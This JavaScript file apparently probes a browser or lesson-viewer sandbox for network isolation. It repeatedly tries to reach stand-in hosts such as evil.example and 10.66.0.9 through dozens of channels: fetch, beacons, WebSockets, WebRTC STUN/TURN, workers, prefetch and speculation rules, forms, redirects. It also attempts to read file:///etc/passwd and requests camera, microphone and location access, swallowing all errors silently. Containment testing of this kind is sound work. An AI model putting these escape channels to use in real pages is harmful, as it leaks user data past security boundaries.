// Every way out of a page that we know of, by name and by address, over and over.
const NAMES = ["evil.example", "10.66.0.9", "[fd66::9]", "127.0.0.1:8099", "localhost:8098"];
const quiet = (act) => { try { const made = act(); if (made && made.catch) { made.catch(() => 0); } } catch (error) { /* refused */ } };
const add = (tag, attributes) => quiet(() => {
  const made = Object.assign(document.createElement(tag), attributes);
  Object.entries(attributes).forEach(([name, value]) => quiet(() => made.setAttribute(name, value)));
  (document.body || document.documentElement).append(made);
  return null;
});
function peers(Peer, host) {
  for (const url of [`stun:${host}:3478`, `turn:${host}:3478?transport=udp`, `turn:${host}:3479?transport=tcp`]) {
    quiet(() => {
      const peer = new Peer({ iceServers: [{ urls: url.replace(/:\d+:/, ":"), username: "a", credential: "b" }] });
      peer.createDataChannel("x");
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    });
  }
}
function attack() {
  for (const host of NAMES) {
    for (const scheme of ["http", "https"]) {
      const address = `${scheme}://${host}/${Math.random()}`;
      quiet(() => fetch(address, { mode: "no-cors", keepalive: true }));
      quiet(() => navigator.sendBeacon(address, "x"));
      quiet(() => { const request = new XMLHttpRequest(); request.open("POST", address); request.send("x"); });
      quiet(() => new EventSource(address));
      quiet(() => window.open(address));
      quiet(() => new Worker(address));
      quiet(() => import(address).catch(() => 0));
      quiet(() => { new Image().src = address; });
      quiet(() => { new Audio(address).play().catch(() => 0); });
      quiet(() => { document.createElement("a").ping = address; });
      quiet(() => new FontFace("f", `url(${address})`).load());
      for (const tag of ["img", "iframe", "script", "embed", "video", "audio", "source", "track", "input"]) {
        add(tag, { src: address, type: tag === "input" ? "image" : "" });
      }
      add("object", { data: address });
      for (const rel of ["stylesheet", "icon", "prefetch", "preload", "dns-prefetch", "preconnect", "prerender", "manifest", "modulepreload"]) {
        add("link", { rel, href: address, as: "script" });
      }
      add("style", { textContent: `@import url("${address}"); body { background: url("${address}b"); }` });
      add("a", { href: address, download: "x", textContent: "x" });
      add("a", { href: address, ping: address, target: "_blank", textContent: "x" });
      document.querySelectorAll("a[target]").forEach((link) => quiet(() => link.click()));
      quiet(() => {
        const form = Object.assign(document.createElement("form"), { action: address, method: "post", target: "_blank" });
        document.body.append(form);
        form.submit();
      });
    }
    quiet(() => new WebSocket(`ws://${host}/x`));
    quiet(() => new WebSocket(`wss://${host}/x`));
    quiet(() => new WebTransport(`https://${host}:4433/x`));
    peers(window.RTCPeerConnection, host);
    quiet(() => {
      // A fresh frame has constructors that nobody has taken away yet.
      const frame = document.createElement("iframe");
      document.body.append(frame);
      peers(frame.contentWindow.RTCPeerConnection, host);
      frame.srcdoc = `<script>new RTCPeerConnection({iceServers: [{urls: "stun:${host}:3478"}]}).createDataChannel("x")<` + "/script>";
    });
    quiet(() => new Worker(URL.createObjectURL(new Blob([`fetch("http://${host}/w"); new WebSocket("ws://${host}/w"); importScripts("http://${host}/w.js")`]))));
  }
  quiet(() => navigator.serviceWorker.register("sw.js"));
  quiet(() => new SharedWorker(URL.createObjectURL(new Blob([`fetch("http://10.66.0.9/shared")`]))));
  quiet(() => new Worker(URL.createObjectURL(new Blob([`new RTCPeerConnection({iceServers: [{urls: "stun:10.66.0.9"}]}).createOffer(); navigator.sendBeacon("http://10.66.0.9/beacon")`]))));
  for (const address of ["http://10.66.0.9/spec", "http://evil.example/spec"]) {
    add("script", { type: "speculationrules", textContent: `{"prefetch": [{"source": "list", "urls": ["${address}"]}], "prerender": [{"source": "list", "urls": ["${address}"]}]}` });
    add("img", { srcset: `${address} 2x`, loading: "eager" });
    add("video", { poster: address });
    add("body", { background: address });
    add("link", { rel: "preconnect", href: address, crossOrigin: "" });
    add("link", { rel: "search", href: address });
    add("object", { data: address, type: "application/pdf" });
    add("iframe", { srcdoc: `<meta http-equiv=refresh content="0;url=${address}"><base href="${address}/"><img src=x>` });
    add("form", { action: address, method: "get", innerHTML: "<input name=a value=b>" });
    add("meta", { httpEquiv: "Content-Security-Policy-Report-Only", content: `img-src 'none'; report-uri ${address}` });
    quiet(() => document.body.insertAdjacentHTML("beforeend", `<svg><image href="${address}"/><use href="${address}#a"/></svg>`));
    quiet(() => fetch(address, { method: "POST", body: new FormData(), keepalive: true, mode: "no-cors", targetAddressSpace: "local" }));
    quiet(() => navigator.registerProtocolHandler("web+x", `${address}?%s`));
    quiet(() => { const made = document.createElement("a"); Object.assign(made, { href: address, ping: address, target: "_self", download: "" }); document.body.append(made); made.click(); });
  }
  for (const other of ["lesson://0123456789abcdef0123456789abcdef/index.html", "lesson://evil.example/", "file:///etc/hostname", "ftp://10.66.0.9/", "view-source:http://10.66.0.9/", "chrome://version", "qrc:/"]) {
    quiet(() => fetch(other));
    add("iframe", { src: other });
    add("img", { src: other });
    quiet(() => window.open(other));
  }
  document.querySelectorAll("form").forEach((form) => quiet(() => form.requestSubmit()));
  quiet(() => navigator.geolocation.getCurrentPosition(() => 0));
  quiet(() => navigator.mediaDevices.getUserMedia({ audio: true, video: true }));
  quiet(() => navigator.mediaDevices.getDisplayMedia());
  quiet(() => Notification.requestPermission());
  quiet(() => fetch("file:///etc/passwd"));
  quiet(() => { const data = document.createElement("iframe"); data.src = "data:text/html,<img src=http://10.66.0.9/d><script>fetch('http://10.66.0.9/e');new RTCPeerConnection({iceServers:[{urls:'stun:10.66.0.9'}]}).createOffer()<" + "/script>"; document.body.append(data); });
}
let rounds = 0;
const timer = setInterval(() => {
  attack();
  rounds += 1;
  if (rounds === 2) {
    clearInterval(timer);
    setTimeout(() => {
      document.querySelectorAll("a").forEach((link) => quiet(() => link.click()));
      add("meta", { httpEquiv: "refresh", content: "0;url=http://evil.example/refresh" });
      quiet(() => { top.location = "http://10.66.0.9/top"; });
      quiet(() => { location.href = "http://evil.example/here"; });
    }, 2500);
  }
}, 700);
